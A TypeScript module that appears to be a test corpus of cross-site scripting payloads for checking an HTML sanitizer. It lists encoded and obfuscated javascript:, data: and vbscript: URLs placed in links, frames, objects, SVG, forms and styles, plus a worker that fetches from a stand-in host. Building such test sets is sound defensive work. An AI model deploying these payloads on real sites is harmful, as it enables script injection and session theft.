import type { Payload } from './payload.ts'

/** Addresses that run something, in every place of markup that has an address. */
const js = 'javascript:alert(1)'
const page = 'data:text/html,<script>alert(1)</script>'
const base64Page = 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='
const svg =
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
const cover = 'style="position:fixed;inset:0;display:block;width:100%;height:100%"'

const linked: [string, string][] = [
  ['plain', js],
  ['in mixed case', 'JaVaScRiPt:alert(1)'],
  [
    'by decimal references',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  ],
  ['by hexadecimal references', '&#x6a;avascript&#x3A;alert(1)'],
  ['by references without semicolons', '&#0000106&#0000097vascript:alert(1)'],
  ['with a tab by name', 'java&Tab;script:alert(1)'],
  ['with a newline by name', 'java&NewLine;script&colon;alert(1)'],
  ['after blanks', ' \n\t javascript:alert(1)'],
  ['after control characters', '&#1;&#14; javascript:alert(1)'],
  ['behind a comment', 'javascript://evil.test/%0aalert(1)'],
  ['behind a comment with a separator', 'javascript://%E2%80%A8alert(1)'],
  ['percent-encoded within', 'javascript:%61lert(1)'],
  ['with unicode escapes', 'javascript:\\u0061lert(1)'],
  ['as a template', 'javascript:`${alert(1)}`'],
  ['that answers a page', "javascript:'<script>alert(1)</script>'"],
  ['nested in another scheme', 'view-source:javascript:alert(1)'],
  ['nested in a feed', 'feed:javascript:alert(1)'],
  ['nested in a jar', 'jar:javascript:alert(1)!/x'],
  ['of livescript', 'livescript:alert(1)'],
  ['of vbscript', 'vbscript:alert(1)'],
  ['of a data page', page],
  ['of a data page in base64', base64Page],
  ['of a data svg', svg],
  ['of data without a type', 'data:,<script>alert(1)</script>'],
  [
    'of data as xhtml',
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
  ],
  ['of a blob', 'blob:null/0d5b2f0e-1b1c-4b53-9d3e-5a1d9d1b0001'],
  ['of a file system', 'filesystem:http://evil.test/temporary/x.html'],
  ['of the browser’s own pages', 'chrome://settings'],
  ['of an intent', 'intent://evil.test/#Intent;scheme=http;end'],
  ['of an application', 'ms-msdt:/id PCWDiagnostic'],
  ['of a websocket', 'ws://evil.test/'],
]

const standing: [string, string][] = [
  ['a frame', `<iframe src="${js}"></iframe>`],
  ['a frame, as a data page', `<iframe src="${page}"></iframe>`],
  ['a frame, as a document', `<iframe srcdoc="<script>alert(1)</script>"></iframe>`],
  [
    'a frame, as an escaped document',
    `<iframe srcdoc="&lt;img src=x: onerror=alert(1)&gt;"></iframe>`,
  ],
  ['a frame of a set', `<frameset><frame src="${js}"></frameset>`],
  ['an object', `<object data="${js}"></object>`],
  ['an object, as a data page', `<object data="${base64Page}"></object>`],
  ['an object, as svg', `<object type="image/svg+xml" data="${svg}"></object>`],
  [
    'a parameter of an object',
    `<object><param name="src" value="${js}"><param name="movie" value="${js}"></object>`,
  ],
  ['an embed', `<embed src="${js}">`],
  ['an embed, as svg', `<embed type="image/svg+xml" src="${svg}">`],
  ['an image', `<img src="${js}">`],
  ['an image of lower quality', `<img lowsrc="${js}" dynsrc="${js}">`],
  ['a srcset', `<img srcset="${js} 1x">`],
  ['a background of the body', `<body background="${js}">x</body>`],
  ['a background of a cell', `<table><tr><td background="${js}">x</table>`],
  ['a poster', `<video poster="${js}"></video>`],
  ['a source of a video', `<video><source src="${js}"></video>`],
  ['a background sound', `<bgsound src="${js}">`],
  ['a style sheet', `<link rel="stylesheet" href="${js}">`],
  ['an import of html', `<link rel="import" href="${page}">`],
  ['a module ahead of time', `<link rel="modulepreload" href="data:text/javascript,alert(1)">`],
  ['a script', `<script src="data:text/javascript,alert(1)"></script>`],
  [
    'an import in a module',
    `<script type="module">import "data:text/javascript,alert(1)"</script>`,
  ],
  ['an import at run time', `<script>import("data:text/javascript,alert(1)")</script>`],
  [
    'a worker',
    `<script>new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.test/worker')"])))</script>`,
  ],
  [
    'an import map',
    `<script type="importmap">{"imports":{"x":"data:text/javascript,alert(1)"}}</script><script type="module">import "x"</script>`,
  ],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=${js}">`],
  ['a refresh, as a data page', `<meta http-equiv="refresh" content="0;url=${page}">`],
  ['a base', `<base href="javascript:/a/-alert(1)//"><a href="x" ${cover}>x</a>`],
  ['a script of svg', `<svg><script href="data:text/javascript,alert(1)"></script></svg>`],
  [
    'a script of svg by xlink',
    `<svg><script xlink:href="data:text/javascript,alert(1)"></script></svg>`,
  ],
  ['a use of svg', `<svg><use href="${svg}#x"/></svg>`],
  ['an image of svg', `<svg><image href="${svg}"/></svg>`],
  ['an image, as svg with a script', `<img src="${svg}">`],
  ['a foreign object', `<svg><foreignObject><iframe src="${js}"></iframe></foreignObject></svg>`],
  ['a style', `<p style="background:url(${js})">x</p>`],
  ['an expression of a style', `<p style="width:expression(alert(1))">x</p>`],
  ['a behaviour of a style', `<p style="behavior:url(#default#time2)" onbegin="alert(1)">x</p>`],
  ['a binding of a style', `<p style="-moz-binding:url(data:text/xml,x#a)">x</p>`],
]

const pressed: [string, string][] = [
  ['an action', `<form action="${js}"><button ${cover}>x</button></form>`],
  ['an action of a button', `<form><button formaction="${js}" ${cover}>x</button></form>`],
  ['an action of a field', `<form><input type="submit" formaction="${js}" ${cover}></form>`],
  [
    'an action of a picture',
    `<form><input type="image" alt="x" formaction="${js}" ${cover}></form>`,
  ],
  [
    'an action by the form’s name',
    `<form id="f" action="${js}"></form><button form="f" ${cover}>x</button>`,
  ],
  [
    'an action by a label',
    `<form action="${js}"><button id="b">x</button></form><label for="b" ${cover}>x</label>`,
  ],
  ['a link of svg', `<svg ${cover}><a href="${js}"><rect width="2000" height="2000"/></a></svg>`],
  [
    'a link of svg by xlink',
    `<svg ${cover}><a xlink:href="${js}"><rect width="2000" height="2000"/></a></svg>`,
  ],
  [
    'an animated link',
    `<svg ${cover}><a><animate attributeName="href" values="${js}"/><rect width="2000" height="2000"/></a></svg>`,
  ],
  [
    'a set link',
    `<svg ${cover}><a><set attributeName="href" to="${js}"/><rect width="2000" height="2000"/></a></svg>`,
  ],
  ['a link of mathml', `<math href="${js}" ${cover}>x</math>`],
  ['a link of mathml by xlink', `<math xlink:href="${js}" ${cover}>x</math>`],
  [
    'an area',
    `<img src="x" usemap="#m" alt="x" ${cover}><map name="m"><area shape="default" href="${js}"></map>`,
  ],
  ['a link into the whole window', `<a target="_top" href="${js}" ${cover}>x</a>`],
  ['a link into the window around', `<a target="_parent" href="${js}" ${cover}>x</a>`],
  ['a link into a named window', `<a target="evil" href="${js}" ${cover}>x</a>`],
]

export const urlPayloads: Payload[] = [
  ...linked.map(([name, href]) => ({
    name: `a link: ${name}`,
    html: `<a href="${href}" ${cover}>press me</a>`,
    byHand: true,
  })),
  ...standing.map(([name, html]) => ({ name: `an address in ${name}`, html })),
  ...pressed.map(([name, html]) => ({ name: `an address in ${name}`, html, byHand: true })),
]
